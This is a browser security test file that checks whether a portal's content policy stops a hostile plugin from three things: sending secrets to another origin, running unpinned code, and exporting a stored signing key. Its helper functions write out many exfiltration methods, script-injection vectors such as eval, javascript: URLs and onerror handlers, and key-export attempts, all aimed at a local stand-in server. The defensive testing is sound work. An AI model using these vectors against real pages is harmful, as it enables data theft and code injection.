// What a plugin that means harm cannot do in the page: reach another origin by a request, picture, frame, form or socket,
// run code that no build has pinned, and take the signing key along. A plugin runs in the page with the user's rights, so
// what the user may do it may do; navigations and peer connections are not prevented: docs/security.md.
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test } from './fixtures.ts';

declare global {
  interface Window {
    /** Set by code that was executed. */
    hasRun?: string[];
  }
}

let server: Server;
let origin = '';
const received: string[] = [];

test.beforeAll(async () => {
  server = createServer((request, response) => {
    received.push(request.url ?? '');
    response.writeHead(200, { 'content-type': 'text/html' }).end('<!doctype html>');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});
test.afterAll(() => new Promise((resolve) => server.close(resolve)));

test.beforeEach(async ({ openSession, consoleErrors }) => {
  consoleErrors.allow(
    /Content Security Policy|Content-Security-Policy|Failed to|violates|Refused|EvalError|ERR_|SyntaxError|ReferenceError|Trusted|WebSocket|EventSource/,
  );
  await openSession('demo', 'demo.admin');
});

test('no request, picture, frame, form or socket of a plugin reaches another origin', async ({ page }) => {
  const attempts = await page.evaluate(sendEverywhere, origin);
  expect(attempts).toBeGreaterThanOrEqual(20);
  // A request that the policy allowed would arrive within milliseconds.
  await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 1_000)));
  expect(received).toEqual([]);
  // Without the portal's policy, they do arrive.
  await page.goto(origin);
  received.length = 0;
  await page.evaluate(sendEverywhere, origin);
  await expect.poll(() => received.length).toBeGreaterThan(15);
});

test('a plugin runs no code that no build has pinned', async ({ page }) => {
  const attempts = await page.evaluate(runCode, origin);
  expect(attempts).toBeGreaterThanOrEqual(12);
  await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 1_000)));
  expect(await page.evaluate(() => window.hasRun)).toEqual([]);
  // Without the portal's policy, it does run.
  await page.goto(origin);
  await page.evaluate(runCode, origin);
  await expect.poll(() => page.evaluate(() => window.hasRun?.length)).toBeGreaterThan(10);
});

test('a plugin cannot read the signing key', async ({ page }) => {
  const outcomes = await page.evaluate(exportKeys);
  expect(outcomes).toEqual(['InvalidAccessError', 'InvalidAccessError', 'InvalidAccessError', 'InvalidAccessError']);
});

/** Runs in the page; returns the number of attempts. */
async function sendEverywhere(target: string): Promise<number> {
  let number = 0;
  const next = () => {
    number += 1;
    return `${target}/${number}?secret`;
  };
  const add = (name: string, attributes: Readonly<Record<string, string>>) => {
    const element = document.createElement(name);
    try {
      for (const [attribute, value] of Object.entries(attributes)) element.setAttribute(attribute, value);
    } catch {
      // Trusted Types reject it.
    }
    document.body.append(element);
    return element;
  };
  const attempt = async (send: () => unknown) => {
    try {
      await send();
    } catch {
      // Rejected, as it should be.
    }
  };
  await attempt(() => fetch(next(), { mode: 'no-cors' }));
  await attempt(() => fetch(next(), { method: 'POST', mode: 'no-cors', body: 'secret', keepalive: true }));
  await attempt(() => navigator.sendBeacon(next(), 'secret'));
  await attempt(() => {
    const request = new XMLHttpRequest();
    request.open('GET', next());
    request.send();
  });
  await attempt(() => new WebSocket(next().replace('http', 'ws')));
  await attempt(() => new EventSource(next()));
  await attempt(() => new Worker(next()));
  await attempt(() => new FontFace('Secret', `url(${next()})`).load());
  await attempt(() => import(/* @vite-ignore */ next()));
  for (const rel of ['stylesheet', 'prefetch', 'preload', 'modulepreload', 'icon', 'manifest']) {
    add('link', { rel, as: 'image', href: next() });
  }
  for (const name of ['img', 'video', 'audio', 'iframe', 'embed', 'script']) add(name, { src: next() });
  add('object', { data: next() });
  add('img', { srcset: `${next()} 1x` });
  add('div', { style: `width:9px;height:9px;background-image:url(${next()})` });
  const form = add('form', { action: next(), method: 'post', target: 'elsewhere' }) as HTMLFormElement;
  form.submit();
  return number;
}

/** Runs in the page; returns the number of attempts. */
async function runCode(target: string): Promise<number> {
  window.hasRun = [];
  // The browser exempts the task in which a test evaluates something from the policy's rule against eval.
  await new Promise((resolve) => setTimeout(resolve));
  let number = 0;
  const code = () => {
    number += 1;
    return `window.hasRun.push('${number}')`;
  };
  const attempt = async (run: () => unknown) => {
    try {
      await run();
    } catch {
      // Rejected, as it should be.
    }
  };
  const add = (name: string, attributes: Readonly<Record<string, string>>, text = '') => {
    const element = document.createElement(name);
    try {
      for (const [attribute, value] of Object.entries(attributes)) element.setAttribute(attribute, value);
      element.textContent = text;
    } catch {
      // Trusted Types reject it.
    }
    document.body.append(element);
    return element as HTMLElement;
  };
  const addressOf = (text: string) => URL.createObjectURL(new Blob([text], { type: 'text/javascript' }));
  // The rules against these are what is tested.
  await attempt(() => Reflect.apply(Reflect.get(window, 'eval') as (text: string) => unknown, window, [code()]));
  await attempt(() => (Reflect.construct(Function, [code()]) as () => unknown)());
  await attempt(() => Reflect.apply(setTimeout, window, [code(), 0]));
  await attempt(() => Reflect.apply(setInterval, window, [code(), 50]));
  add('script', {}, code());
  add('script', { type: 'module' }, code());
  add('script', { src: addressOf(code()) });
  add('script', { src: `data:text/javascript,${code()}` });
  add('script', { src: `${target}/code.js` });
  await attempt(() => import(/* @vite-ignore */ addressOf(code())));
  await attempt(() => new Worker(addressOf(code())));
  add('button', { onclick: code() }).click();
  add('a', { href: `javascript:${code()}` }).click();
  add('iframe', { srcdoc: `<script>parent.${code()}</script>` });
  add('img', { src: 'data:,', onerror: code() });
  add('script', { type: 'importmap' }, `{"imports":{"elsewhere":"${addressOf(code())}"}}`);
  await attempt(() => import(/* @vite-ignore */ ['elsewhere'].join()));
  await attempt(async () => {
    await WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]));
    window.hasRun?.push('WebAssembly');
  });
  return number;
}

/** Runs in the page: the names of the errors with which each form of the key is refused. */
async function exportKeys(): Promise<readonly string[]> {
  const key = await new Promise<CryptoKey>((resolve, reject) => {
    const opening = indexedDB.open('brokerdesk-signing', 1);
    opening.onerror = () => reject(opening.error ?? new Error('IndexedDB failed.'));
    opening.onsuccess = () => {
      const reading = opening.result.transaction('keys').objectStore('keys').get('signing');
      reading.onsuccess = () => resolve((reading.result as { readonly privateKey: CryptoKey }).privateKey);
    };
  });
  const wrapping = await crypto.subtle.generateKey({ name: 'AES-GCM', length: 256 }, false, ['wrapKey']);
  const attempts = [
    crypto.subtle.exportKey('jwk', key),
    crypto.subtle.exportKey('pkcs8', key),
    crypto.subtle.wrapKey('jwk', key, wrapping, { name: 'AES-GCM', iv: new Uint8Array(12) }),
    crypto.subtle.wrapKey('pkcs8', key, wrapping, { name: 'AES-GCM', iv: new Uint8Array(12) }),
  ];
  const outcomes = await Promise.allSettled(attempts);
  return outcomes.map((outcome) =>
    outcome.status === 'fulfilled' ? 'exported' : (outcome.reason as DOMException).name,
  );
}
